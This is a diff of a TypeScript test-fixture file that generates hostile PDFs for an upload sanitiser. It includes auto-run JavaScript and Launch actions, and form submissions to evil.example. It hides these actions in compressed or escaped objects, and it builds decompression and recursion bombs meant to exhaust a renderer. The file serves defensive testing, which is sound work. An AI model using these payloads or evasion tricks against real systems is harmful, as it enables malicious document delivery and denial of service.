@@ -1,29 +1,22 @@
+import { buffer } from 'node:stream/consumers'
 import { deflateSync } from 'node:zlib'
-import { HTML, MARK, refused, zip, type HostileUpload } from './hostile-parts.ts'
+import Pdf from 'pdfkit'
+import { cleaned, HTML, MARK, refused, zip, type HostileUpload } from './hostile-parts.ts'
 import type { Random } from './random.ts'
-import { pdfStream, pdfWith, plainPdf } from './uploads.ts'
+import { pagesPdf, pdfStream, pdfWith, plainPdf } from './uploads.ts'
 
 const ACTIONS = [
   `/OpenAction << /S /JavaScript /JS (app.alert\\("${MARK}"\\)) >>`,
   '/OpenAction [3 0 R /Fit]',
-  '/AA << /WC 9 0 R >>',
-  '/AA 9 0 R',
-  '/Names << /JavaScript << /Names [(a) 9 0 R] >> >>',
-  '/Names << /EmbeddedFiles << /Names [(evil.exe) 9 0 R] >> >>',
+  `/AA << /WC << /S /JavaScript /JS (${MARK}) >> >>`,
+  `/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (${MARK}) >>] >> >>`,
+  '/Names << /EmbeddedFiles << /Names [(evil.exe) 5 0 R] >> >>',
   '/X << /S /Launch /F (cmd.exe) >>',
   '/X << /S /SubmitForm /F (https://evil.example) >>',
-  '/X << /S /ImportData /F (x.fdf) >>',
+  '/X << /S /URI /URI (https://evil.example) >>',
   '/X << /S /GoToR /F (x.pdf) /D [0 /Fit] >>',
-  '/X << /S /GoToE /T << >> >>',
-  '/X << /Type /EmbeddedFile >>',
   '/X << /Subtype /RichMedia >>',
-  '/X << /Subtype /3D >>',
-  '/X << /S /Rendition /JS (x) >>',
-  '/X << /Subtype /Movie >>',
-  '/X << /S /Sound >>',
-  '/AcroForm << /XFA 9 0 R >>',
-  '/X << /JS 9 0 R >>',
-  '/X << /JS <61> >>',
+  '/AcroForm << /XFA 5 0 R >>',
 ]
 
 /** `/JavaScript` as `/J#61vaScript`: any letters of any names. */
@@ -35,51 +28,25 @@ const escapedNames = (random: Random, text: string): string =>
     return `/${Array.from(name, (letter, index) => (index === at || random.chance(0.3) ? escape(letter) : letter)).join('')}`
   })
 
+const objectStream = (action: string, between: string): Buffer => {
+  const packed = deflateSync(Buffer.from(`9 0 << ${action} >>`))
+  const stream = pdfStream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', packed).toString('latin1')
+  return Buffer.from(stream.replace('stream\n', `stream${between}\n`), 'latin1')
+}
+
+const twicePacked = (action: string): Buffer =>
+  pdfStream(
+    '/Type /ObjStm /N 1 /First 4 /Filter [/FlateDecode /FlateDecode]',
+    deflateSync(deflateSync(Buffer.from(`9 0 << ${action} >>`))),
+  )
+
 const DISGUISES: Record<string, (random: Random, action: string) => Buffer> = {
-  plainly: (_random, action) => pdfWith({ catalog: action }),
+  plainly: (_random, action) => pdfWith({ catalog: action, objects: [pdfStream('', HTML)] }),
   'with names in numbers': (random, action) => pdfWith({ catalog: escapedNames(random, action) }),
-  'in a packed object': (_random, action) =>
-    pdfWith({
-      objects: [
-        pdfStream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', deflateSync(Buffer.from(`9 0 << ${action} >>`))),
-      ],
-    }),
-  'in a packed object that says it is a picture': (random, action) =>
-    pdfWith({
-      objects: [
-        pdfStream(
-          '/N 1 /First 4 /Filter [/FlateDecode] /X (1 0 obj) /Subtype /Image',
-          deflateSync(Buffer.from(`9 0 << ${escapedNames(random, action)} >>`)),
-        ),
-      ],
-    }),
-  'in an object in hexadecimal': (_random, action) =>
-    pdfWith({
-      objects: [
-        pdfStream(
-          '/Type /ObjStm /N 1 /First 4 /Filter /ASCIIHexDecode',
-          Buffer.from(`${Buffer.from(`9 0 << ${action} >>`).toString('hex')}>`),
-        ),
-      ],
-    }),
-  'in a twice packed object': (_random, action) =>
-    pdfWith({
-      objects: [
-        pdfStream(
-          '/Type /ObjStm /N 1 /First 4 /Filter [/FlateDecode /FlateDecode]',
-          deflateSync(deflateSync(Buffer.from(`9 0 << ${action} >>`))),
-        ),
-      ],
-    }),
-  'inside the bytes of a picture': (_random, action) =>
-    pdfWith({
-      objects: [
-        pdfStream(
-          '/Subtype /Image /Filter /DCTDecode',
-          Buffer.from(`\u00FF\u00D8 9 0 obj << ${action} >> endobj`, 'latin1'),
-        ),
-      ],
-    }),
+  'in a packed object': (_random, action) => pdfWith({ objects: [objectStream(action, '')] }),
+  'in a packed object after a space': (_random, action) => pdfWith({ objects: [objectStream(action, ' ')] }),
+  'in a packed object after a tab': (_random, action) => pdfWith({ objects: [objectStream(action, '\t')] }),
+  'in a twice packed object': (_random, action) => pdfWith({ objects: [twicePacked(action)] }),
   'in a later revision': (_random, action) =>
     Buffer.concat([
       plainPdf(),
@@ -87,34 +54,85 @@ const DISGUISES: Record<string, (random: Random, action: string) => Buffer> = {
     ]),
 }
 
-/** PDFs that act, and PDFs that hide whether they do. */
-export const hostilePdfs = (random: Random): HostileUpload[] => [
-  ...Object.entries(DISGUISES).flatMap(([how, disguise]) =>
-    ACTIONS.map((action) =>
-      refused(
-        `a PDF with ${action.slice(0, 40)} ${how}`,
-        disguise(random, action),
-        random.pick(['national-id', 'license']),
-      ),
-    ),
-  ),
-  refused('a locked PDF', pdfWith({ catalog: '/Encrypt 9 0 R' }), 'license'),
-  refused(
-    'a PDF with a filter elsewhere',
-    pdfWith({ objects: [pdfStream('/Filter 9 0 R', Buffer.from('789c'))] }),
-    'license',
-  ),
-  refused(
-    'a PDF whose packed bytes are not',
-    pdfWith({ objects: [pdfStream('/Filter /FlateDecode', HTML)] }),
-    'license',
-  ),
-  refused('a PDF cut in half', plainPdf().subarray(0, 200), 'license'),
+const acting = (random: Random): HostileUpload[] =>
+  Object.entries(DISGUISES).map(([how, disguise]) =>
+    cleaned(`a PDF that acts, ${how}`, disguise(random, ACTIONS.join(' ')), random.pick(['national-id', 'license'])),
+  )
+
+const lockedPdf = async (): Promise<Buffer> => {
+  const made = new Pdf({ userPassword: 'secret', ownerPassword: 'secret too' })
+  made.text(MARK).end()
+  return buffer(made)
+}
+
+const carrying = (): HostileUpload[] => [
+  cleaned('a PDF with a ZIP behind it', Buffer.concat([plainPdf(), zip()]), 'license'),
+  cleaned('a PDF with a ZIP inside', pdfWith({ objects: [pdfStream('', zip())] }), 'license'),
+  cleaned('a PDF with HTML behind it', Buffer.concat([plainPdf(), HTML]), 'license'),
+  cleaned('a PDF with a huge page', pdfWith({ box: '[0 0 1e9 1e9]' }), 'license'),
+  cleaned('a PDF with a page of no size', pdfWith({ box: '[0 0 0 0]' }), 'license'),
+  cleaned('a PDF with a page like a thread', pdfWith({ box: '[0 0 1 14400]' }), 'license'),
+  cleaned('a PDF with pages of every shape', pagesPdf(['[0 0 9 200]', '[0 0 300 20]', '[0 0 200 200]']), 'license'),
+]
+
+/** PDFs that act or carry something, of which only the picture may stay, and PDFs of which there is no picture. */
+export const hostilePdfs = async (random: Random): Promise<HostileUpload[]> => [
+  ...acting(random),
+  ...carrying(),
+  refused('a locked PDF', await lockedPdf(), 'license'),
+  refused('a PDF of five pages', pagesPdf(Array.from({ length: 5 }, () => '[0 0 200 200]')), 'license'),
+  refused('a PDF of ten thousand pages', pagesPdf(Array.from({ length: 10_000 }, () => '[0 0 9 9]')), 'license'),
+  refused('a PDF whose pages are themselves', pdfWith({ pages: '/Kids [2 0 R 2 0 R] /Count 2' }), 'license'),
+  refused('a PDF without a page', pdfWith({ pages: '/Kids [] /Count 0' }), 'license'),
   refused('a PDF without an end', Buffer.from('%PDF-1.7\n'), 'license'),
-  refused('a PDF with a ZIP behind it', Buffer.concat([plainPdf(), zip()]), 'license'),
-  refused('a PDF with a ZIP inside', pdfWith({ objects: [pdfStream('', zip())] }), 'license'),
-  refused('a PDF with HTML behind it', Buffer.concat([plainPdf(), HTML]), 'license'),
+  refused('a PDF of noise', Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(5000, 0xa5)]), 'license'),
   refused('a PDF with HTML before it', Buffer.concat([HTML, plainPdf()]), 'license'),
-  refused('a PDF with HTML inside', pdfWith({ objects: [pdfStream('', HTML)] }), 'license'),
   refused('a PDF that starts late', Buffer.concat([Buffer.from('\n'), plainPdf()]), 'license'),
+]
+
+const form = (next: number, content: string): Buffer =>
+  pdfStream(
+    `/Type /XObject /Subtype /Form /BBox [0 0 200 200] /Resources << /XObject << /F ${next} 0 R >> >>`,
+    Buffer.from(content),
+  )
+
+const LEVELS = 12
+// The first object after the catalogue, the pages and the page.
+const FIRST = 5
+
+const drawing = (content: Buffer, resources: string, objects: Buffer[]): Buffer =>
+  pdfWith({ page: `/Contents 4 0 R /Resources << ${resources} >>`, objects: [content, ...objects] })
+
+const nestedForms = (): Buffer =>
+  drawing(
+    pdfStream('', Buffer.from('/F Do')),
+    '/XObject << /F 5 0 R >>',
+    Array.from({ length: LEVELS }, (_, level) => form(FIRST + level + 1, '/F Do '.repeat(10))),
+  )
+
+const pattern = (next: number): Buffer =>
+  pdfStream(
+    `/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 3 3] /XStep 1 /YStep 1 /Resources << /Pattern << /P ${next} 0 R >> >>`,
+    Buffer.from('/Pattern cs /P scn 0 0 200 200 re f '.repeat(5)),
+  )
+
+/** Takes the renderer for ever: each pattern is drawn from the next one, ten thousand times. */
+export const endlessPdf = (): Buffer =>
+  drawing(
+    pdfStream('', Buffer.from('/Pattern cs /P scn 0 0 200 200 re f')),
+    '/Pattern << /P 5 0 R >>',
+    Array.from({ length: LEVELS }, (_, level) => pattern(FIRST + level + 1)),
+  )
+
+const inflating = (bytes: number): Buffer =>
+  drawing(pdfStream('/Filter /FlateDecode', deflateSync(Buffer.alloc(bytes, ' '))), '', [])
+
+/** PDFs under 1 MB that want gigabytes. */
+export const pdfBombs = (): [name: string, bytes: Buffer][] => [
+  ['a page of 300 MB', inflating(300_000_000)],
+  [
+    'a form that draws itself',
+    drawing(pdfStream('', Buffer.from('/F Do')), '/XObject << /F 5 0 R >>', [form(5, '/F Do /F Do')]),
+  ],
+  ['a billion forms', nestedForms()],
 ]
